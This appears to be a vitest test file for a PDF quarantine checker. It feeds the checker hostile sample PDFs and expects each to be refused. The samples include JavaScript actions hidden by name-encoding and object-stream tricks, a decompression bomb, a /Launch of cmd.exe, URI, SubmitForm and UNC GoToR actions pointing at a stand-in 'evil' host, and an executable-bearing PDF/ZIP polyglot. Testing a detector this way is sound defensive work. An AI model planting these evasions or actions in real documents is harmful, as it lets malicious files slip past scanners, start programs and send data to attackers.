// Is a PDF that would do more than be read refused, however it is written?
import { deflateSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { packed, pdf, zip } from '../support/people/hostile.ts'
import { quiet, useQuarantineFolder, verdictOn } from './verdicts.ts'

useQuarantineFolder()

/** Packed objects after pairs of number and offset that nobody honest would write. */
const packedAs = (pairs: string, objects: string, level = 6): Buffer => {
  const content = deflateSync(Buffer.from(`${pairs}${objects}`, 'latin1'), { level })
  const head = `<< /Type /ObjStm /N 2 /First ${pairs.length} /Filter /FlateDecode >>\nstream\n`
  return Buffer.concat([Buffer.from(head), content, Buffer.from('\nendstream')])
}

const untyped = (pack: Buffer, first?: string): Buffer => {
  const words = pack.toString('latin1').replace('/Type /ObjStm ', '')
  return Buffer.from(first ? words.replace(/\/First \d+/, first) : words, 'latin1')
}

test.each([
  ['a script', 'a.pdf', pdf(quiet, '<< /S /JavaScript /JS (app.alert(1)) >>'), /script/],
  [
    'a script under another spelling',
    'a.pdf',
    pdf(quiet, '<< /S /J#61vaScript /J#53 (app.alert(1)) >>'),
    /script/,
  ],
  ['a packed script', 'a.pdf', pdf(quiet, packed([[7, '<< /S /JavaScript /JS (x) >>']])), /script/],
  [
    'a packed script under another spelling',
    'a.pdf',
    pdf(
      quiet,
      Buffer.from(
        packed([[7, '<< /S /JavaScript /JS (x) >>']])
          .toString('latin1')
          .replace('/ObjStm', '/ObjS#74m'),
        'latin1',
      ),
    ),
    /script/,
  ],
  [
    'a script whose name ends with a zero byte',
    'a.pdf',
    pdf(quiet, '<< /S /JavaScript\0/JS\0(app.alert(1)) >>'),
    /script/,
  ],
  [
    'a script that begins in one packed object and ends in the next',
    'a.pdf',
    pdf(quiet, packedAs('1 0 2 10 ', '<< /S /JavaScript /JS (x) >>')),
    /script/,
  ],
  [
    'packed objects that lie in each other',
    'a.pdf',
    pdf(quiet, packedAs('1 9 2 0 ', '<< /A 1 >> << /B 2 >>')),
    /cannot be checked/,
  ],
  [
    'objects packed in packed objects',
    'a.pdf',
    pdf(quiet, packedAs('1 0 ', packedAs('2 0 ', '<< >>', 0).toString('latin1'), 0)),
    /cannot be checked/,
  ],
  [
    'objects packed so that nobody can look',
    'a.pdf',
    pdf(quiet, packed([[7, '<< >>']], '/Filter [/ASCIIHexDecode /FlateDecode]')),
    /cannot be checked/,
  ],
  [
    'objects packed without end',
    'a.pdf',
    pdf(quiet, packed([[7, 'x'.repeat(70_000_000)]])),
    /cannot be checked/,
  ],
  ['a program to start', 'a.pdf', pdf(quiet, '<< /S /Launch /F (cmd.exe) >>'), /starts something/],
  [
    'a page on the net on opening',
    'a.pdf',
    pdf('<< /OpenAction << /S /URI /URI (http://evil) >> >>'),
    /starts something/,
  ],
  [
    'the same said elsewhere',
    'a.pdf',
    pdf('<< /OpenAction 2 0 R >>', '<< /S /URI /URI (http://evil) >>'),
    /starts something/,
  ],
  [
    'the same said after a harmless one',
    'a.pdf',
    pdf('<< /OpenAction [3 0 R] /OpenAction << /S /URI /URI (http://evil) >> >>'),
    /starts something/,
  ],
  [
    'the same said in a later version',
    'a.pdf',
    Buffer.concat([
      pdf('<< /OpenAction 9 0 R >>', packed([[9, '[3 0 R /Fit]']])),
      Buffer.from('09  0 obj << /S /URI /URI (http://evil) >> endobj'),
    ]),
    /starts something/,
  ],
  [
    'the same said of what is not there',
    'a.pdf',
    pdf('<< /OpenAction 9 0 R >>'),
    /starts something/,
  ],
  [
    'a file elsewhere when a page is opened',
    'a.pdf',
    pdf(quiet, '<< /Type /Page /AA << /O << /S /GoToR /F (\\\\evil\\x) /D [0 /Fit] >> >> >>'),
    /starts something/,
  ],
  ['a link to a file elsewhere', 'a.pdf', pdf(quiet, '<< /S /GoToR /F (x) >>'), /starts something/],
  [
    'a page on the net when a page is opened',
    'a.pdf',
    pdf(quiet, '<< /Type /Page /AA << /O << /S /URI /URI (http://evil/t) >> >> >>'),
    /starts something/,
  ],
  [
    'the same said elsewhere and behind a remark',
    'a.pdf',
    pdf(quiet, '<< /Type /Page /A#41 % its actions\n7 0 R >>'),
    /starts something/,
  ],
  [
    'a script packed without saying so',
    'a.pdf',
    pdf(quiet, untyped(packed([[7, '<< /S /JavaScript /JS (x) >>']]))),
    /script/,
  ],
  [
    'objects packed behind a place that is said elsewhere',
    'a.pdf',
    pdf(quiet, untyped(packed([[7, '<< >>']]), '/First 12 0 R')),
    /cannot be checked/,
  ],
  [
    'a form that sends',
    'a.pdf',
    pdf(quiet, '<< /S /SubmitForm /F (http://evil) >>'),
    /starts something/,
  ],
  ['an attachment', 'a.pdf', pdf(quiet, '<< /Type /EmbeddedFile >>'), /embedded/],
  [
    'a locked document',
    'a.pdf',
    Buffer.concat([pdf(quiet), Buffer.from('trailer << /Encrypt 5 0 R >>')]),
    /encrypted/,
  ],
  [
    'a document that is an archive too',
    'a.pdf',
    Buffer.concat([pdf(quiet), zip([{ name: 'a.exe', content: 'x' }])]),
    /another kind/,
  ],
])('%s', async (_, name, content, why) => {
  expect(await verdictOn(name, content)).toMatch(why)
})
